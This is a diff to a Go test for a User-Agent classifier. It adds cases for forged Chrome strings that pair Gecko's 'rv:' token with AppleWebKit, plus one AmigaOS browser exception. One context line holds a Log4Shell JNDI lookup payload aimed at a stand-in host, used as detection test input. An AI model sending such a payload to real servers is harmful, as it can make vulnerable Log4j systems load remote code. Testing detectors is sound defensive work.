@@ -206,6 +206,14 @@ func TestClassifyAgent(t *testing.T) {
 		{chromeWin + " ${jndi:ldap://x.example/a}", Tool, "Log4Shell"}, // an exploit, not a browser: TestExploitAgent
 		{chromeWin + strings.Repeat(" A", 5*1024), Suspicious, "Chrome"},
 		{chromeWin + "\x1b[31m", Suspicious, "Chrome"},
+		// Chrome pieced together from two browsers' strings (aws scanners in
+		// secrepo 2018, an ALB log of 2025): every Chrome writes
+		// AppleWebKit/, none writes Gecko's rv:. A fringe system's browser
+		// (AmigaOS, labelled a browser in ../shared/data/ua) may mix them.
+		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/67.0.3396.79 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X x.y; rv:42.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/67.0.3396.79 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Chrome/126.0.0.0 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 (AmigaOs; 4.0; en-US; rv:1.8.1.21pre)  AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.666.4147.105 Safari/537.36", Browser, "Chrome"},
 		// Misspelled by the scripts that copied them: exploit kits' "Mozlila"
 		// and "Bulid", a DVR exploit's "Mozila/5.0" (Daniloday/ubuntu
 		// access.log.2); a Firefox whose rv: and version disagree, asking for
